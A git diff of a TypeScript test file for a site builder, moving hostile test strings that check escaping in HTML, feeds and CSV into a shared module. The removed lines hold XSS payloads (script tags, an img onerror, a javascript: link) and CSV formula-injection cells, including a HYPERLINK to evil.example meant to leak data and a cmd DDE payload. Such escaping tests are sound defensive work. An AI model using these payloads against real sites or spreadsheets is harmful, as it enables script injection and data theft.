@@ -1,41 +1,19 @@
-import { beforeAll, describe, expect, it } from 'vitest';
-import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { parseFeed } from '@rowanmanning/feed-parser';
 import { XMLParser, XMLValidator } from 'fast-xml-parser';
 import { parse } from 'parse5';
-import { copyProject, runScript } from '../helpers/project.ts';
+import { testSite } from '../sites/sites.ts';
+import { FORMULAS, HOSTILE_AUTHOR, HOSTILE_TAG, HOSTILE_TITLE } from '../sites/hostile.ts';
 import { textContent, walkElements } from '../../src/lib/html/dom.ts';
 import { unsafeMarkup } from '../helpers/html-safety.ts';
 import { curlyQuotes } from '../../src/lib/site/typography.ts';
 import { parseCsv } from '../../src/lib/figures/csv.ts';
 
-/** Strings that break naive templating, XML and JSON. */
-const HOSTILE_TITLE = 'Tokens </script><script>alert(1)</script> & "quotes" ]]> \u202Eevil 豆包 ✅';
-const HOSTILE_TAG = '"><img src=x onerror=alert(1)>';
-const HOSTILE_AUTHOR = 'Ann &amp; <b>Bob</b>';
-/** Cells a spreadsheet would run as formulas (OWASP, CSV Injection). */
-const FORMULAS = ['=HYPERLINK("https://evil.example/?leak","Click")', '@SUM(1+1)', "+cmd|' /C calc'!A0", '-2+3'];
-
 describe('hostile text in frontmatter', () => {
-  let dir: string;
-  beforeAll(() => {
-    dir = copyProject();
-    const yamlString = (s: string) => JSON.stringify(s);
-    writeFileSync(
-      join(dir, 'content/articles/2026-01-10-hostile.mdx'),
-      `---\ntitle: ${yamlString(HOSTILE_TITLE)}\ndek: ${yamlString('A dek with <b>tags</b> & ]]>')}\npublished: 2026-01-10\nauthors: [${yamlString(HOSTILE_AUTHOR)}]\ntags: [${yamlString(HOSTILE_TAG)}]\nissue: 77\nsources:\n  - name: ${yamlString('Source </a><a href="javascript:alert(1)">')}\n    url: "https://example.org/?a=1&b=2"\n    date: 2026-01-01\nsummary: ${yamlString('One sentence with </script> in it.')}\nkeyFigures: ["hostile.value"]\n---\n\nBody with <Fig id="hostile.value" />.\n\n<Chart type="bar" title={${JSON.stringify(HOSTILE_TAG)}} labels={[${JSON.stringify(HOSTILE_TITLE)}, "豆包"]} datasets={[{ label: ${JSON.stringify(HOSTILE_AUTHOR)}, values: [1, 2] }]} />\n\n<Chart type="bar" title="Formulas" labels={${JSON.stringify(FORMULAS.slice(0, 2))}} datasets={[{ label: ${JSON.stringify(FORMULAS[2])}, values: [-5, 2] }]} />\n`,
-    );
-    writeFileSync(
-      join(dir, 'content/figures/hostile.yaml'),
-      `figures:\n  - id: hostile.value\n    label: ${yamlString(HOSTILE_TITLE)}\n    value: 1\n    unit: count\n    asOf: "2026"\n    note: ${yamlString('Note ]]> & <b>bold</b> \u202E')}\n    source:\n      name: ${yamlString(HOSTILE_TAG)}\n      url: "https://example.org/?a=1&b=2"\n      date: "2026"\n  - id: hostile.formula\n    label: ${yamlString(FORMULAS[0]!)}\n    value: -5\n    unit: count\n    asOf: "2026"\n    note: ${yamlString(FORMULAS[1]!)}\n    source:\n      name: ${yamlString(FORMULAS[3]!)}\n      url: "https://example.org/formula"\n      date: "2026"\n`,
-    );
-    const result = runScript('scripts/build.ts', [], {
-      cwd: dir,
-      env: { BUILD_DATE: '2026-11-24T00:00:00Z', EMAIL_EDITIONS: 'hostile' },
-    });
-    expect(result.status, result.stdout + result.stderr).toBe(0);
-  });
+  // The editions test site holds the hostile article and figures (tests/sites/hostile.ts), its edition kept.
+  const dir = testSite('editions').project;
 
   const read = (p: string) => readFileSync(join(dir, 'dist', p), 'utf8');
 
